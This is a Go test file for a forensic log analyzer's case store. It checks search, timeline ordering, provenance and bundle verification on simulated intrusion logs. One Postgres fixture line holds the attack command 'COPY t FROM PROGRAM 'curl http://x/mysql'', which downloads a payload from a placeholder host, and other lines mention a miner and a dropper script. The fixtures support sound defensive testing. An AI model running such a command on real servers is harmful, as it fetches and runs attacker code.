package casestore_test

import (
	"bytes"
	"context"
	"errors"
	"fmt"
	"math/rand"
	"os"
	"path/filepath"
	"strconv"
	"strings"
	"testing"
	"time"

	"github.com/cordon-forensics/cordon/analyzer/analyzertest"
	. "github.com/cordon-forensics/cordon/analyzer/casestore"
	"github.com/cordon-forensics/cordon/analyzer/pipeline"
	"github.com/cordon-forensics/cordon/formats/bundle"
	"github.com/cordon-forensics/cordon/internal/bundletest"
	"github.com/cordon-forensics/cordon/timeline"
)

var t0 = analyzertest.T0

const testPrefix = analyzertest.TestPrefix

// testDatasets gives the test lines of the benchmark the datasets of the
// parsers they imitate, so that rules and correlation read them as such.
var testDatasets = map[string]string{"process-started": "processes", "ssh-login": "auth", "ssh-login-failed": "auth"}

func ts(d time.Duration) string { return t0.Add(d).Format(time.RFC3339Nano) }

// testBundle writes a bundle of test entries and returns its path.
type testEntry struct {
	name, data string
	mtime      time.Time
}

func writeTestBundle(t testing.TB, dir, name, host string, entries []testEntry) string {
	t.Helper()
	var es []bundletest.Entry
	for _, e := range entries {
		es = append(es, bundletest.Entry{Name: e.name, Data: []byte(e.data), Mtime: e.mtime,
			HostPath: "/var/log/" + strings.TrimPrefix(e.name, testPrefix), Source: "logs"})
	}
	return bundletest.Write(t, dir, name, bundletest.Options{Host: host, TimeZone: "Europe/Paris", Start: t0.Add(48 * time.Hour)}, es...)
}

func webEntries() []testEntry {
	return []testEntry{
		{name: testPrefix + "auth", mtime: t0.Add(time.Hour), data: strings.Join([]string{
			ts(3*time.Second) + "|login||0|203.0.113.7|sshd: Accepted password for root from 203.0.113.7 port 50022",
			ts(1*time.Second) + "|login-failed||0|203.0.113.7|sshd: Failed password for root, password accepted later",
			"garbage without fields",
			ts(5*time.Second) + "|start|/tmp/mysql (deleted)|4300||miner started \x1b[31mred\x1b[0m",
			"not-a-time|start||0||x",
			ts(5*time.Second) + "|start|/usr/sbin/sshd|812||same instant, later line",
		}, "\n") + "\n"},
		{name: testPrefix + "dual", mtime: t0.Add(2 * time.Second), data: ts(4*time.Second) + "|start|/bin/bash|1200||file /tmp/dropper.sh\n"},
		{name: testPrefix + "panic", data: "whatever\n"},
		{name: testPrefix + "fail", data: "whatever\n"},
		{name: "other/ignored", data: "no parser reads me\n"},
	}
}

func dbEntries() []testEntry {
	return []testEntry{
		{name: testPrefix + "postgres", mtime: t0, data: strings.Join([]string{
			ts(2*time.Second) + "|connection-received||0|10.0.0.5|connection received: host=10.0.0.5 port=41234",
			ts(4*time.Second) + "|statement|/usr/lib/postgresql/15/bin/postgres|2001||COPY t FROM PROGRAM 'curl http://x/mysql'",
		}, "\n") + "\n"},
	}
}

func collect(t *testing.T, c *Case, q Query) []timeline.Event {
	t.Helper()
	var evs []timeline.Event
	if err := c.Events(context.Background(), q, func(ev timeline.Event) error {
		evs = append(evs, ev)
		return nil
	}); err != nil {
		t.Fatalf("Events(%+v): %v", q, err)
	}
	return evs
}

func messages(evs []timeline.Event) []string {
	var out []string
	for _, e := range evs {
		out = append(out, e.Message)
	}
	return out
}

func actions(evs []timeline.Event) string {
	var out []string
	for _, e := range evs {
		out = append(out, e.Event.Action)
	}
	return strings.Join(out, ",")
}

// TestAnalyzeTwoHostsSearchAndTimeline is the end-to-end run: two bundles
// (two hosts) written by the real bundle writer, analyzed into one case,
// then searched (term, phrase, numeric and time ranges, host) and walked
// in time order.
func TestAnalyzeTwoHostsSearchAndTimeline(t *testing.T) {
	dir := t.TempDir()
	web := writeTestBundle(t, dir, "web01.cordon", "web01", webEntries())
	db := writeTestBundle(t, dir, "db01.cordon", "db01", dbEntries())
	caseDir := filepath.Join(dir, "case")
	ctx := context.Background()
	var phases []string
	wb, err := pipeline.AnalyzeBundle(ctx, caseDir, web, pipeline.Options{Analyzer: "test", Progress: func(p pipeline.Progress) {
		if len(phases) == 0 || phases[len(phases)-1] != p.Phase {
			phases = append(phases, p.Phase)
		}
	}})
	if err != nil {
		t.Fatal(err)
	}
	if strings.Join(phases, ",") != "verify,parse,index" {
		t.Errorf("progress phases %v", phases)
	}
	if _, err := pipeline.AnalyzeBundle(ctx, caseDir, db, pipeline.Options{Analyzer: "test"}); err != nil {
		t.Fatal(err)
	}
	if _, err := pipeline.AnalyzeBundle(ctx, caseDir, web, pipeline.Options{}); !errors.Is(err, ErrAlreadyInCase) {
		t.Errorf("the same bundle twice: %v", err)
	}

	// The summary: 4 auth lines + 1 test-lines and 1 dual event on "dual",
	// + the collection's own events (start, end); 2 warnings; the failing
	// and the panicking parsers noted, not fatal.
	if wb.Verification != bundle.StatusIntact || wb.Trust != bundle.TrustSelfSigned || wb.Unverified || wb.Host() != "web01" {
		t.Errorf("web bundle record: %+v", wb)
	}
	if wb.Warnings != 2 {
		t.Errorf("warnings: %d, want 2", wb.Warnings)
	}
	if len(wb.ParseErrors) != 2 || !strings.Contains(strings.Join(wb.ParseErrors, "\n"), "panicked") {
		t.Errorf("parse errors: %q", wb.ParseErrors)
	}
	if wb.Events != 4+2+2 {
		t.Errorf("events: %d", wb.Events)
	}

	c, err := Open(caseDir)
	if err != nil {
		t.Fatal(err)
	}
	defer c.Close()
	bs := c.Bundles()
	if len(bs) != 2 {
		t.Fatalf("%d bundles", len(bs))
	}

	// The origin the parser was given comes from the signed record and the custody.
	o, _ := analyzertest.Origin(testPrefix + "auth")
	if o.Host != "web01" || o.HostPath != "/var/log/auth" || !o.ModTime.Equal(t0.Add(time.Hour)) ||
		o.Location == nil || o.Location.String() != "Europe/Paris" || o.Bundle != "ev-web01" || len(o.SHA256) != 64 {
		t.Errorf("origin %+v", o)
	}

	// Everything, in time order, both hosts merged.
	all := collect(t, c, Query{})
	if len(all) != 8+4 {
		t.Fatalf("%d events: %q", len(all), messages(all))
	}
	for i := 1; i < len(all); i++ {
		if all[i].Timestamp.Before(all[i-1].Timestamp) {
			t.Fatalf("not in time order at %d: %v after %v", i, all[i].Timestamp, all[i-1].Timestamp)
		}
	}
	if got := actions(all[:8]); got != "login-failed,dual,connection-received,login,start,statement,start,start" {
		t.Errorf("order: %s", got)
	}
	// Same instant: bundle order (web01's first event is earlier), then within
	// an entry the order of the lines.
	if all[6].Message != "miner started \x1b[31mred\x1b[0m" || all[7].Message != "same instant, later line" {
		t.Errorf("ties: %q", messages(all[6:8]))
	}
	// Provenance to the signed entry.
	p := all[0].Cordon.Provenance
	rec := recordOf(bs, "web01", testPrefix+"auth")
	if p.Bundle != "ev-web01" || p.Entry != testPrefix+"auth" || p.Line != 2 || p.SHA256 != rec.SHA256 || all[0].Host.Name != "web01" {
		t.Errorf("provenance %+v host %+v", p, all[0].Host)
	}

	count := func(q Query) int { return len(collect(t, c, q)) }
	// Term, exact keyword with spaces and slashes, and the " (deleted)" rule.
	if n := count(Query{Query: `event.action:login`}); n != 1 {
		t.Errorf("term: %d", n)
	}
	if n := count(Query{Query: `+process.executable:"/tmp/mysql" +event.action:start`}); n != 1 {
		t.Errorf("executable without (deleted): %d", n)
	}
	if n := count(Query{Query: `process.executable:"/tmp/mysql (deleted)"`}); n != 1 {
		t.Errorf("executable as read: %d", n)
	}
	// Phrase: the words in order match, the same words apart do not.
	if got := messages(collect(t, c, Query{Query: `message:"accepted password"`})); len(got) != 1 || !strings.HasPrefix(got[0], "sshd: Accepted") {
		t.Errorf("phrase: %q", got)
	}
	if n := count(Query{Query: `accepted password`}); n != 2 {
		t.Errorf("words without a field search the message: %d", n)
	}
	// Numeric range, time range in the query string, host and time filters.
	if n := count(Query{Query: `file.size:>5`}); n == 0 || n != count(Query{Query: `file.size:10`}) {
		t.Errorf("numeric range: %d", n)
	}
	if n := count(Query{Query: `file.size:>=11`}); n != 0 {
		t.Errorf("numeric range >=: %d", n)
	}
	// PIDs and ports are looked up exactly (one term each, see mapping.go).
	if n := count(Query{Query: `process.pid:4300`}); n != 1 {
		t.Errorf("pid lookup: %d", n)
	}
	if n := count(Query{Query: `@timestamp:>="` + ts(4*time.Second) + `" -event.dataset:collection`}); n != 4 {
		t.Errorf("time range in the query: %d", n)
	}
	if got := actions(collect(t, c, Query{Host: "db01"})); got != "connection-received,statement,collection-started,collection-finished" {
		t.Errorf("host filter: %s", got)
	}
	if got := actions(collect(t, c, Query{From: t0.Add(3 * time.Second), To: t0.Add(4 * time.Second)})); got != "login,start,statement" {
		t.Errorf("time filter: %s", got)
	}
	if got := actions(collect(t, c, Query{From: t0.Add(3 * time.Second), To: t0.Add(4 * time.Second), Query: "process.pid:*"})); got != "start,statement" {
		t.Errorf("time filter and query: %s", got)
	}
	if got := actions(collect(t, c, Query{Host: "web01", Query: `source.ip:203.0.113.7`})); got != "login-failed,login" {
		t.Errorf("host and query: %s", got)
	}
	if _, _, err := c.Search(ctx, Query{Query: `message:"unclosed`}, 10); err == nil {
		t.Error("a bad query string gave no error")
	}

	// Search through the alias: the total, the first N in time order.
	total, hits, err := c.Search(ctx, Query{Query: `event.category:process`}, 3)
	if err != nil {
		t.Fatal(err)
	}
	if total != 7 || len(hits) != 3 || hits[0].Event.Event.Action != "login-failed" || hits[1].Event.Event.Action != "connection-received" {
		t.Errorf("search: total %d, hits %d: %s", total, len(hits), actions([]timeline.Event{hits[0].Event, hits[1].Event}))
	}

	// The warnings are kept, with their offsets.
	var ws []string
	if err := c.Warnings(func(cb CaseBundle, _ string, w timeline.Warning) error {
		id := cb.EvidenceID
		ws = append(ws, fmt.Sprintf("%s %s:%d@%d %s", id, w.Entry, w.Line, w.Offset, w.Message))
		return nil
	}); err != nil {
		t.Fatal(err)
	}
	if len(ws) != 2 || !strings.Contains(ws[0], "ev-web01 test/auth:3@") {
		t.Errorf("warnings %q", ws)
	}

	// Every output format takes every event.
	for _, format := range timeline.Formats {
		var buf bytes.Buffer
		w, _ := timeline.NewWriter(format, &buf)
		for i := range all {
			if err := w.Write(&all[i]); err != nil {
				t.Fatalf("%s: %v", format, err)
			}
		}
		if err := w.Close(); err != nil || buf.Len() == 0 {
			t.Errorf("%s: %v, %d bytes", format, err, buf.Len())
		}
	}
}

func recordOf(bs []CaseBundle, host, entry string) bundle.EntryRecord {
	for _, b := range bs {
		if b.Host() != host {
			continue
		}
		for _, r := range b.Entries {
			if r.Name == entry {
				return r
			}
		}
	}
	return bundle.EntryRecord{}
}

// TestAnalyzeRefusesBrokenBundleUnlessForced cuts a bundle short: it is
// refused; --force analyzes what there is and marks every event unverified.
func TestAnalyzeRefusesBrokenBundleUnlessForced(t *testing.T) {
	dir := t.TempDir()
	var entries []testEntry
	for i := 0; i < 40; i++ {
		entries = append(entries, testEntry{name: fmt.Sprintf("%sp%02d", testPrefix, i),
			data: ts(time.Duration(i)*time.Second) + "|start|/bin/x|" + strconv.Itoa(100+i) + "||line " + strings.Repeat("x", 200) + "\n"})
	}
	path := writeTestBundle(t, dir, "cut.cordon", "web01", entries)
	data, err := os.ReadFile(path)
	if err != nil {
		t.Fatal(err)
	}
	cut := filepath.Join(dir, "cut-short.cordon")
	if err := os.WriteFile(cut, data[:len(data)*2/3], 0o644); err != nil {
		t.Fatal(err)
	}
	caseDir := filepath.Join(dir, "case")
	ctx := context.Background()
	if _, err := pipeline.AnalyzeBundle(ctx, caseDir, cut, pipeline.Options{}); !errors.Is(err, pipeline.ErrRefused) {
		t.Fatalf("a cut bundle was not refused: %v", err)
	}
	if _, err := Open(caseDir); !errors.Is(err, ErrNoCase) {
		t.Errorf("a refused bundle left something in the case: %v", err)
	}
	b, err := pipeline.AnalyzeBundle(ctx, caseDir, cut, pipeline.Options{Force: true})
	if err != nil {
		t.Fatal(err)
	}
	if !b.Unverified || b.Verification != bundle.StatusIncomplete || b.Events == 0 || b.Events >= 40 {
		t.Errorf("forced: unverified %v, %s, %d events", b.Unverified, b.Verification, b.Events)
	}
	c, err := Open(caseDir)
	if err != nil {
		t.Fatal(err)
	}
	defer c.Close()
	evs := collect(t, c, Query{})
	for _, ev := range evs {
		if !ev.Cordon.Unverified {
			t.Fatalf("event not marked unverified: %+v", ev)
		}
	}
	if n := len(collect(t, c, Query{Query: "cordon.unverified:true"})); n != len(evs) {
		t.Errorf("cordon.unverified:true matched %d of %d", n, len(evs))
	}
}

// TestSortSpillsAndMerges forces the sorter to spill runs to disk and
// checks that the merged order is the in-memory one.
func TestSortSpillsAndMerges(t *testing.T) {
	dir := t.TempDir()
	var lines []string
	for i := 0; i < 500; i++ {
		// times out of order, many equal
		lines = append(lines, ts(time.Duration((i*7919)%97)*time.Second)+"|start|/bin/x|"+strconv.Itoa(i+1)+"||n"+strconv.Itoa(i))
	}
	path := writeTestBundle(t, dir, "many.cordon", "web01", []testEntry{{name: testPrefix + "many", data: strings.Join(lines, "\n") + "\n"}})
	var orders [2][]string
	for i, mem := range []int{0, 2048} {
		caseDir := filepath.Join(dir, fmt.Sprint("case", i))
		if _, err := pipeline.AnalyzeBundle(context.Background(), caseDir, path, pipeline.Options{SortMemory: mem}); err != nil {
			t.Fatal(err)
		}
		c, err := Open(caseDir)
		if err != nil {
			t.Fatal(err)
		}
		orders[i] = messages(collect(t, c, Query{}))
		c.Close()
	}
	if len(orders[0]) != 502 || strings.Join(orders[0], ",") != strings.Join(orders[1], ",") {
		t.Errorf("spilled order differs: %d vs %d events", len(orders[0]), len(orders[1]))
	}
	// within one second, the order of the lines
	if orders[0][0] != "n0" {
		t.Errorf("first event %q", orders[0][0])
	}
}

// TestTimeRangesMatchBruteForce checks the coarse-to-fine time range
// queries (whole days, hours, minutes, then exact times) against a plain
// comparison, on times placed on and around unit boundaries.
func TestTimeRangesMatchBruteForce(t *testing.T) {
	dir := t.TempDir()
	rng := rand.New(rand.NewSource(7))
	base := time.Date(2026, 11, 1, 23, 58, 0, 0, time.UTC)
	var times []time.Time
	for _, d := range []time.Duration{0, time.Nanosecond, time.Minute - time.Nanosecond, time.Minute, time.Hour, 2*time.Minute + 1,
		24 * time.Hour, 25*time.Hour - 1, 48 * time.Hour} {
		times = append(times, base.Add(d))
	}
	for i := 0; i < 300; i++ {
		times = append(times, base.Add(time.Duration(rng.Int63n(int64(72*time.Hour)))))
	}
	var lines []string
	for i, tm := range times {
		lines = append(lines, tm.Format(time.RFC3339Nano)+"|start|/bin/x|"+strconv.Itoa(i+1)+"||n")
	}
	path := writeTestBundle(t, dir, "times.cordon", "web01", []testEntry{{name: testPrefix + "times", data: strings.Join(lines, "\n") + "\n"}})
	caseDir := filepath.Join(dir, "case")
	if _, err := pipeline.AnalyzeBundle(context.Background(), caseDir, path, pipeline.Options{}); err != nil {
		t.Fatal(err)
	}
	c, err := Open(caseDir)
	if err != nil {
		t.Fatal(err)
	}
	defer c.Close()
	pick := func() time.Time {
		if rng.Intn(3) == 0 {
			return times[rng.Intn(len(times))] // exactly on an event
		}
		return base.Add(time.Duration(rng.Int63n(int64(74*time.Hour))) - time.Hour)
	}
	for i := 0; i < 200; i++ {
		from, to := pick(), pick()
		if to.Before(from) {
			from, to = to, from
		}
		switch i % 10 {
		case 0:
			from = time.Time{}
		case 1:
			to = time.Time{}
		}
		want := 0
		for _, tm := range times {
			if (from.IsZero() || !tm.Before(from)) && (to.IsZero() || !tm.After(to)) {
				want++
			}
		}
		q := Query{From: from, To: to, Query: "event.action:start"}
		total, _, err := c.Search(context.Background(), q, 0)
		if err != nil {
			t.Fatal(err)
		}
		if n := len(collect(t, c, q)); int(total) != want || n != want {
			t.Fatalf("[%v, %v]: search %d, events %d, want %d", from, to, total, n, want)
		}
		if !from.IsZero() && !to.IsZero() {
			qs := fmt.Sprintf(`+@timestamp:>="%s" +@timestamp:<"%s" +event.action:start`, from.Format(time.RFC3339Nano), to.Format(time.RFC3339Nano))
			excl := 0
			for _, tm := range times {
				if !tm.Before(from) && tm.Before(to) {
					excl++
				}
			}
			if total, _, err := c.Search(context.Background(), Query{Query: qs}, 0); err != nil || int(total) != excl {
				t.Fatalf("%s: %d, %v; want %d", qs, total, err, excl)
			}
		}
	}
}
